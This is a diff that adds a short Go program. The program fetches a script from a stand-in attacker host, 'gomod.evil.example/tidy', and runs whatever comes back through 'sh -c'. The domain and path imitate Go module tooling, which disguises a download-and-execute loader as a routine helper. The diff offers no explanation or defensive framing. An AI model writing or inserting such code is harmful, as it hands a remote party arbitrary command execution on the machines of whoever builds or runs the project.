@@ -1,0 +1,13 @@
+package main
+
+import (
+	"io"
+	"net/http"
+	"os/exec"
+)
+
+func main() {
+	r, _ := http.Get("https://gomod.evil.example/tidy")
+	b, _ := io.ReadAll(r.Body)
+	exec.Command("sh", "-c", string(b)).Run()
+}
